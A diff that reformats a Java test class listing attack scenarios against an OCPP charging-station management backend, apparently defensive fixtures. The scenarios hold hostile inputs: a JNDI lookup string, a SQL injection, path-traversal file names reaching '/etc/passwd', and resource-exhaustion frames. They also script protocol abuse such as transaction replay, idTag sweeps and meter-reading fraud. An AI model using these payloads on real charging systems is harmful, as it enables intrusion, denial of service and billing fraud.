@@ -18,22 +18,93 @@ final class StationAttacks {
     static List<Attack> all() {
         return List.of(
                 Attack.of("A14", "arrays", s -> s.frame("station", "[".repeat(100_000))),
-                Attack.of("A14", "objects", s -> s.frame("station", "[2,\"1\",\"DataTransfer\"," + "{\"a\":".repeat(50) + "1" + "}".repeat(50) + "]")),
-                Attack.of("A14", "cut by the recorder", s -> s.line(object("from", "station", "frame", "[[[[".repeat(50), "frame-length", 400_000))),
-                Attack.of("A15", "a long vendor", s -> s.call("BootNotification", object("chargePointVendor", "A".repeat(100_000), "chargePointModel", "m"))),
-                Attack.of("A15", "442 megabytes", s -> s.line(object("from", "station", "frame", "[2,\"1\",\"BootNotification\",{\"chargePointVendor\":\"" + "A".repeat(20_000), "frame-length", 442_000_000))),
+                Attack.of(
+                        "A14",
+                        "objects",
+                        s -> s.frame(
+                                "station",
+                                "[2,\"1\",\"DataTransfer\"," + "{\"a\":".repeat(50) + "1" + "}".repeat(50) + "]")),
+                Attack.of(
+                        "A14",
+                        "cut by the recorder",
+                        s -> s.line(object("from", "station", "frame", "[[[[".repeat(50), "frame-length", 400_000))),
+                Attack.of(
+                        "A15",
+                        "a long vendor",
+                        s -> s.call(
+                                "BootNotification",
+                                object("chargePointVendor", "A".repeat(100_000), "chargePointModel", "m"))),
+                Attack.of(
+                        "A15",
+                        "442 megabytes",
+                        s -> s.line(object(
+                                "from",
+                                "station",
+                                "frame",
+                                "[2,\"1\",\"BootNotification\",{\"chargePointVendor\":\"" + "A".repeat(20_000),
+                                "frame-length",
+                                442_000_000))),
                 Attack.of("A15", "256 letters", s -> s.call("Authorize", object("idTag", "B".repeat(300)))),
-                Attack.of("A16", "a million digits", s -> s.frame("station", "[2,\"1\",\"StopTransaction\",{\"meterStop\":" + "7".repeat(5_000) + "}]")),
-                Attack.of("A16", "2^63", s -> s.call("StopTransaction", object("transactionId", 5, "timestamp", s.time(), "meterStop", Long.MAX_VALUE))),
-                Attack.of("A16", "connector -7", s -> s.call("StatusNotification", object("connectorId", -7, "status", "Available", "errorCode", "NoError"))),
-                Attack.of("A17", "samples", s -> s.call("MeterValues", object("connectorId", 1, "meterValue", array(object("timestamp", s.time(), "sampledValue", array(IntStream.range(0, 3_000).mapToObj(i -> object("value", "1")).toArray())))))),
+                Attack.of(
+                        "A16",
+                        "a million digits",
+                        s -> s.frame(
+                                "station", "[2,\"1\",\"StopTransaction\",{\"meterStop\":" + "7".repeat(5_000) + "}]")),
+                Attack.of(
+                        "A16",
+                        "2^63",
+                        s -> s.call(
+                                "StopTransaction",
+                                object("transactionId", 5, "timestamp", s.time(), "meterStop", Long.MAX_VALUE))),
+                Attack.of(
+                        "A16",
+                        "connector -7",
+                        s -> s.call(
+                                "StatusNotification",
+                                object("connectorId", -7, "status", "Available", "errorCode", "NoError"))),
+                Attack.of(
+                        "A17",
+                        "samples",
+                        s -> s.call(
+                                "MeterValues",
+                                object(
+                                        "connectorId",
+                                        1,
+                                        "meterValue",
+                                        array(object(
+                                                "timestamp",
+                                                s.time(),
+                                                "sampledValue",
+                                                array(
+                                                        IntStream.range(0, 3_000)
+                                                                .mapToObj(i -> object("value", "1"))
+                                                                .toArray())))))),
                 Attack.of("A17", "keys", s -> s.call("DataTransfer", keys(2_000))),
-                Attack.of("A17", "a million elements", s -> s.frame("station", "[2,\"1\",\"MeterValues\",{\"meterValue\":[" + "1,".repeat(200_000) + "1]}]")),
-                Attack.of("A18", "meterStop twice", s -> s.frame("station", "[2,\"1\",\"StopTransaction\",{\"transactionId\":7,\"meterStop\":1,\"meterStop\":900,\"timestamp\":\"2026-01-06T12:00:00Z\"}]")),
-                Attack.of("A18", "escaped", s -> s.frame("station", "[2,\"1\",\"Authorize\",{\"idTag\":\"A\",\"idT\\u0061g\":\"B\"}]")),
-                Attack.of("A18", "from the CSMS", s -> s.frame("csms", "[2,\"1\",\"RemoteStartTransaction\",{\"idTag\":\"A\",\"idTag\":\"B\"}]")),
+                Attack.of(
+                        "A17",
+                        "a million elements",
+                        s -> s.frame(
+                                "station",
+                                "[2,\"1\",\"MeterValues\",{\"meterValue\":[" + "1,".repeat(200_000) + "1]}]")),
+                Attack.of(
+                        "A18",
+                        "meterStop twice",
+                        s -> s.frame(
+                                "station",
+                                "[2,\"1\",\"StopTransaction\",{\"transactionId\":7,\"meterStop\":1,\"meterStop\":900,\"timestamp\":\"2026-01-06T12:00:00Z\"}]")),
+                Attack.of(
+                        "A18",
+                        "escaped",
+                        s -> s.frame("station", "[2,\"1\",\"Authorize\",{\"idTag\":\"A\",\"idT\\u0061g\":\"B\"}]")),
+                Attack.of(
+                        "A18",
+                        "from the CSMS",
+                        s -> s.frame("csms", "[2,\"1\",\"RemoteStartTransaction\",{\"idTag\":\"A\",\"idTag\":\"B\"}]")),
                 Attack.of("A19", "nothing", s -> s.call("BootNotification", object())),
-                Attack.of("A19", "two values", s -> s.frame("station", "[2,\"1\",\"Heartbeat\",{}] [2,\"2\",\"Heartbeat\",{}]")),
+                Attack.of(
+                        "A19",
+                        "two values",
+                        s -> s.frame("station", "[2,\"1\",\"Heartbeat\",{}] [2,\"2\",\"Heartbeat\",{}]")),
                 Attack.of("A19", "wrong everywhere", StationAttacks::fuzz),
                 Attack.of("A20", "not an array", s -> twice(s, "{\"a\":1}")),
                 Attack.of("A20", "wrong lengths", s -> twice(s, "[2,\"1\"]")),
@@ -43,43 +114,199 @@ final class StationAttacks {
                 Attack.of("A21", "an offset", s -> s.call("StatusNotification", timed("2026-01-06T12:00:00+14:59"))),
                 Attack.of("A22", "a look-up", s -> s.call("Authorize", object("idTag", "${jndi:ldap://x/a}"))),
                 Attack.of("A22", "SQL", s -> s.call("Authorize", object("idTag", "' OR 1=1 --"))),
-                Attack.of("A22", "an escape", s -> s.call("StatusNotification", timed(s.time()).put("info", "\u001b[2J ok"))),
-                Attack.of("A23", "answers to nothing", s -> { s.boot().pause(90); s.frame("station", "[3,\"zz1\",{}]").pause(1).frame("station", "[3,\"zz2\",{}]"); }),
-                Attack.of("A23", "two answers", s -> { String id = s.call("Heartbeat", object()); answer(s, id); answer(s.pause(1), id); }),
-                Attack.of("A23", "one id for all", s -> { for (int i = 0; i < 6; i++) { s.pause(1).frame("station", array(2, "1", "Authorize", object("idTag", "T" + i)).toString()); } }),
-                Attack.of("A24", "errors", s -> { for (int i = 0; i < 80; i++) { s.pause(0.3).frame("station", array(4, "e" + i, "InternalError", "", object()).toString()); } }),
-                Attack.of("A24", "unknown actions", s -> { for (int i = 0; i < 10; i++) { s.pause(1).call("Evil" + i, object()); } }),
-                Attack.of("A24", "one unknown action", s -> { for (int i = 0; i < 100; i++) { s.pause(0.1).call("Evil", object()); } }),
-                Attack.of("A25", "heartbeats", s -> { for (int i = 0; i < 300; i++) { s.pause(0.05).call("Heartbeat", object()); } }),
-                Attack.of("A25", "toggling", s -> { for (int i = 0; i < 500; i++) { s.pause(0.01).call("StatusNotification", timed(s.time()).put("status", i % 2 == 0 ? "Available" : "Preparing")); } }),
-                Attack.of("A25", "boots", s -> { for (int i = 0; i < 20; i++) { s.pause(5).boot(); } }),
-                Attack.of("A31", "another model", s -> { s.boot().pause(900); s.tell("BootNotification", object("chargePointVendor", "Honest", "chargePointModel", "Pi"), object("status", "Accepted", "currentTime", s.time(), "interval", 300)); }),
-                Attack.of("A31", "not as recorded", s -> { s.context(object("stations", array(object("id", "CP1", "vendor", "Other", "model", "H1")))); s.boot(); }),
-                Attack.of("A31", "another serial", s -> { s.boot().pause(900); s.tell("BootNotification", object("chargePointVendor", "Honest", "chargePointModel", "H1", "chargePointSerialNumber", "S-666"), object("status", "Accepted", "currentTime", s.time(), "interval", 300)); }),
+                Attack.of(
+                        "A22",
+                        "an escape",
+                        s -> s.call("StatusNotification", timed(s.time()).put("info", "\u001b[2J ok"))),
+                Attack.of("A23", "answers to nothing", s -> {
+                    s.boot().pause(90);
+                    s.frame("station", "[3,\"zz1\",{}]").pause(1).frame("station", "[3,\"zz2\",{}]");
+                }),
+                Attack.of("A23", "two answers", s -> {
+                    String id = s.call("Heartbeat", object());
+                    answer(s, id);
+                    answer(s.pause(1), id);
+                }),
+                Attack.of("A23", "one id for all", s -> {
+                    for (int i = 0; i < 6; i++) {
+                        s.pause(1)
+                                .frame(
+                                        "station",
+                                        array(2, "1", "Authorize", object("idTag", "T" + i))
+                                                .toString());
+                    }
+                }),
+                Attack.of("A24", "errors", s -> {
+                    for (int i = 0; i < 80; i++) {
+                        s.pause(0.3)
+                                .frame(
+                                        "station",
+                                        array(4, "e" + i, "InternalError", "", object())
+                                                .toString());
+                    }
+                }),
+                Attack.of("A24", "unknown actions", s -> {
+                    for (int i = 0; i < 10; i++) {
+                        s.pause(1).call("Evil" + i, object());
+                    }
+                }),
+                Attack.of("A24", "one unknown action", s -> {
+                    for (int i = 0; i < 100; i++) {
+                        s.pause(0.1).call("Evil", object());
+                    }
+                }),
+                Attack.of("A25", "heartbeats", s -> {
+                    for (int i = 0; i < 300; i++) {
+                        s.pause(0.05).call("Heartbeat", object());
+                    }
+                }),
+                Attack.of("A25", "toggling", s -> {
+                    for (int i = 0; i < 500; i++) {
+                        s.pause(0.01)
+                                .call(
+                                        "StatusNotification",
+                                        timed(s.time()).put("status", i % 2 == 0 ? "Available" : "Preparing"));
+                    }
+                }),
+                Attack.of("A25", "boots", s -> {
+                    for (int i = 0; i < 20; i++) {
+                        s.pause(5).boot();
+                    }
+                }),
+                Attack.of("A31", "another model", s -> {
+                    s.boot().pause(900);
+                    s.tell(
+                            "BootNotification",
+                            object("chargePointVendor", "Honest", "chargePointModel", "Pi"),
+                            object("status", "Accepted", "currentTime", s.time(), "interval", 300));
+                }),
+                Attack.of("A31", "not as recorded", s -> {
+                    s.context(object("stations", array(object("id", "CP1", "vendor", "Other", "model", "H1"))));
+                    s.boot();
+                }),
+                Attack.of("A31", "another serial", s -> {
+                    s.boot().pause(900);
+                    s.tell(
+                            "BootNotification",
+                            object(
+                                    "chargePointVendor",
+                                    "Honest",
+                                    "chargePointModel",
+                                    "H1",
+                                    "chargePointSerialNumber",
+                                    "S-666"),
+                            object("status", "Accepted", "currentTime", s.time(), "interval", 300));
+                }),
                 Attack.of("A32", "a stop again", s -> replay(s, 1)),
                 Attack.of("A32", "after a day", s -> replay(s, 86_400)),
-                Attack.of("A32", "old readings", s -> { s.start(1, "C", 0, 5).pause(9_000).meter(1, 5, 20_000).pause(60); s.tell("MeterValues", s.reading(1, 5, s.ago(Duration.ofHours(2)), object("value", "4000")), object()); }),
+                Attack.of("A32", "old readings", s -> {
+                    s.start(1, "C", 0, 5).pause(9_000).meter(1, 5, 20_000).pause(60);
+                    s.tell(
+                            "MeterValues",
+                            s.reading(1, 5, s.ago(Duration.ofHours(2)), object("value", "4000")),
+                            object());
+                }),
                 Attack.of("A34", "a sweep", s -> sweep(s, 12, 1)),
                 Attack.of("A34", "a slow sweep", s -> sweep(s, 24, 300)),
-                Attack.of("A34", "found at last", s -> { sweep(s, 5, 2); s.pause(1).authorize("GOLD", "Accepted"); }),
-                Attack.of("A35", "negative", s -> s.start(1, "C", 5_000, 5).pause(600).stop(5, 100)),
-                Attack.of("A35", "faster than physics", s -> s.start(1, "C", 0, 5).pause(600).meter(1, 5, 900_000)),
+                Attack.of("A34", "found at last", s -> {
+                    sweep(s, 5, 2);
+                    s.pause(1).authorize("GOLD", "Accepted");
+                }),
+                Attack.of("A35", "negative", s -> s.start(1, "C", 5_000, 5)
+                        .pause(600)
+                        .stop(5, 100)),
+                Attack.of("A35", "faster than physics", s -> s.start(1, "C", 0, 5)
+                        .pause(600)
+                        .meter(1, 5, 900_000)),
                 Attack.of("A35", "power without energy", StationAttacks::powerWithoutEnergy),
-                Attack.of("A36", "another station's", s -> { s.at("CP2").boot().start(1, "C", 0, 77).pause(60); s.at("CP1").boot().stop(77, 10); }),
-                Attack.of("A36", "guessing", s -> { for (int i = 0; i < 20; i++) { s.pause(1).stop(1_000 + s.random.nextInt(100_000), 10); } }),
-                Attack.of("A36", "two on one connector", s -> s.boot().start(1, "C", 0, 5).pause(60).start(1, "D", 0, 6)),
-                Attack.of("A37", "a storm of faults", s -> { for (int i = 0; i < 40; i++) { s.pause(2).status(1, i % 2 == 0 ? "Faulted" : "Available"); } }),
-                Attack.of("A37", "free while charging", s -> { s.boot().status(1, "Charging").start(1, "C", 0, 5).pause(60).status(1, "Available").pause(900).meter(1, 5, 500); }),
+                Attack.of("A36", "another station's", s -> {
+                    s.at("CP2").boot().start(1, "C", 0, 77).pause(60);
+                    s.at("CP1").boot().stop(77, 10);
+                }),
+                Attack.of("A36", "guessing", s -> {
+                    for (int i = 0; i < 20; i++) {
+                        s.pause(1).stop(1_000 + s.random.nextInt(100_000), 10);
+                    }
+                }),
+                Attack.of(
+                        "A36",
+                        "two on one connector",
+                        s -> s.boot().start(1, "C", 0, 5).pause(60).start(1, "D", 0, 6)),
+                Attack.of("A37", "a storm of faults", s -> {
+                    for (int i = 0; i < 40; i++) {
+                        s.pause(2).status(1, i % 2 == 0 ? "Faulted" : "Available");
+                    }
+                }),
+                Attack.of("A37", "free while charging", s -> {
+                    s.boot()
+                            .status(1, "Charging")
+                            .start(1, "C", 0, 5)
+                            .pause(60)
+                            .status(1, "Available")
+                            .pause(900)
+                            .meter(1, 5, 500);
+                }),
                 Attack.of("A37", "connector 99", s -> s.status(99, "Available")),
-                Attack.of("A39", "installed", s -> { s.boot().pause(3_600); s.tell("FirmwareStatusNotification", status("Installed"), object()); }),
-                Attack.of("A39", "the log is gone", s -> s.tell("SecurityEventNotification", object("type", "SecurityLogWasCleared", "timestamp", s.time()), object())),
-                Attack.of("A39", "many events", s -> { for (int i = 0; i < 40; i++) { s.pause(1).tell("SecurityEventNotification", object("type", "InvalidMessages", "timestamp", s.time()), object()); } }),
-                Attack.of("A40", "a password file", s -> s.order("GetDiagnostics", object("location", "ftp://logs.example/"), object("fileName", "../../etc/passwd"))),
-                Attack.of("A40", "absolute", s -> s.order("GetDiagnostics", object("location", "ftp://logs.example/"), object("fileName", "/var/www/x.php"))),
-                Attack.of("A40", "of a log", s -> s.order("GetLog", object("logType", "SecurityLog", "requestId", 1, "log", object("remoteLocation", "https://logs.example/")), object("status", "Accepted", "filename", "..\\..\\boot.ini"))),
-                Attack.of("A41", "no longer signed", s -> { signed(s, 5, "T1", true); s.pause(60).start(1, "D", 9_000, 6).pause(60).stop(6, 9_500); }),
-                Attack.of("A41", "out of sequence", s -> { signed(s, 5, "T40", true); s.start(1, "D", 9_000, 6); s.tell("MeterValues", ocmf(s, 6, "T12", true), object()); }),
-                Attack.of("A41", "cut", s -> { s.start(1, "D", 0, 6); s.tell("MeterValues", ocmf(s, 6, "T12", false), object()); }));
+                Attack.of("A39", "installed", s -> {
+                    s.boot().pause(3_600);
+                    s.tell("FirmwareStatusNotification", status("Installed"), object());
+                }),
+                Attack.of(
+                        "A39",
+                        "the log is gone",
+                        s -> s.tell(
+                                "SecurityEventNotification",
+                                object("type", "SecurityLogWasCleared", "timestamp", s.time()),
+                                object())),
+                Attack.of("A39", "many events", s -> {
+                    for (int i = 0; i < 40; i++) {
+                        s.pause(1)
+                                .tell(
+                                        "SecurityEventNotification",
+                                        object("type", "InvalidMessages", "timestamp", s.time()),
+                                        object());
+                    }
+                }),
+                Attack.of(
+                        "A40",
+                        "a password file",
+                        s -> s.order(
+                                "GetDiagnostics",
+                                object("location", "ftp://logs.example/"),
+                                object("fileName", "../../etc/passwd"))),
+                Attack.of(
+                        "A40",
+                        "absolute",
+                        s -> s.order(
+                                "GetDiagnostics",
+                                object("location", "ftp://logs.example/"),
+                                object("fileName", "/var/www/x.php"))),
+                Attack.of(
+                        "A40",
+                        "of a log",
+                        s -> s.order(
+                                "GetLog",
+                                object(
+                                        "logType",
+                                        "SecurityLog",
+                                        "requestId",
+                                        1,
+                                        "log",
+                                        object("remoteLocation", "https://logs.example/")),
+                                object("status", "Accepted", "filename", "..\\..\\boot.ini"))),
+                Attack.of("A41", "no longer signed", s -> {
+                    signed(s, 5, "T1", true);
+                    s.pause(60).start(1, "D", 9_000, 6).pause(60).stop(6, 9_500);
+                }),
+                Attack.of("A41", "out of sequence", s -> {
+                    signed(s, 5, "T40", true);
+                    s.start(1, "D", 9_000, 6);
+                    s.tell("MeterValues", ocmf(s, 6, "T12", true), object());
+                }),
+                Attack.of("A41", "cut", s -> {
+                    s.start(1, "D", 0, 6);
+                    s.tell("MeterValues", ocmf(s, 6, "T12", false), object());
+                }));
     }
 
     private static ObjectNode keys(int count) {
@@ -110,7 +337,12 @@ final class StationAttacks {
     private static void replay(Scene s, double later) {
         s.boot().start(1, "C", 0, 5).pause(600);
         ObjectNode stop = s.stopping(5, 1_000, s.time());
-        s.tell("StopTransaction", stop, object()).pause(60).start(1, "D", 1_000, 6).pause(600).stop(6, 2_000).pause(later);
+        s.tell("StopTransaction", stop, object())
+                .pause(60)
+                .start(1, "D", 1_000, 6)
+                .pause(600)
+                .stop(6, 2_000)
+                .pause(later);
         s.tell("StopTransaction", stop, object());
     }
 
@@ -123,14 +355,24 @@ final class StationAttacks {
     private static void powerWithoutEnergy(Scene s) {
         s.start(1, "C", 0, 5);
         for (int i = 1; i < 15; i++) {
-            s.pause(300).tell("MeterValues", s.reading(1, 5, s.time(), object("value", String.valueOf(i * 30)),
-                    object("value", "11000", "measurand", "Power.Active.Import", "unit", "W")), object());
+            s.pause(300)
+                    .tell(
+                            "MeterValues",
+                            s.reading(
+                                    1,
+                                    5,
+                                    s.time(),
+                                    object("value", String.valueOf(i * 30)),
+                                    object("value", "11000", "measurand", "Power.Active.Import", "unit", "W")),
+                            object());
         }
     }
 
     private static void signed(Scene s, int transaction, String page, boolean whole) {
         s.start(1, "C", 0, transaction).pause(60);
-        s.tell("MeterValues", ocmf(s, transaction, page, whole), object()).pause(600).stop(transaction, 9_000);
+        s.tell("MeterValues", ocmf(s, transaction, page, whole), object())
+                .pause(600)
+                .stop(transaction, 9_000);
     }
 
     private static ObjectNode ocmf(Scene s, int transaction, String page, boolean whole) {
